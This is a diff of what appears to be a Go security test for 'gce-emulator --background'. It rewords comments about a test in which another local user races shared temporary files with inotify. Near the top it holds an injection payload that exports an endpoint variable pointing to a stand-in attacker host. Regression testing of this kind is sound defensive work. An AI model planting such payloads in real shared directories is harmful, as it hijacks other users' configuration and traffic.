@@ -21,7 +21,7 @@ const attackPayload = "export GKESSH_COMPUTE_ENDPOINT=http://attacker.invalid/co
 
 func init() { roles["attacker"] = attack }
 
-// attack plays another local user, as in the security review's N1: it
+// attack plays another local user: it
 // watches the shared directory named by ATTACK_DIR with inotify, and
 //   - recreates, with its payload, every file name deleted or renamed
 //     away there (the old --background freed its env file's name and then
@@ -79,7 +79,7 @@ func plant(p string, flag int) string {
 	return "PLANTED"
 }
 
-// TestBackgroundAnotherUserCannotInject replays N1 of the security review:
+// TestBackgroundAnotherUserCannotInject replays an attack by another local user:
 // while `gce-emulator --background` starts with its temporary files in a
 // shared sticky directory, another local user (nobody) watching it with
 // inotify tries to get its own lines into what the command prints for
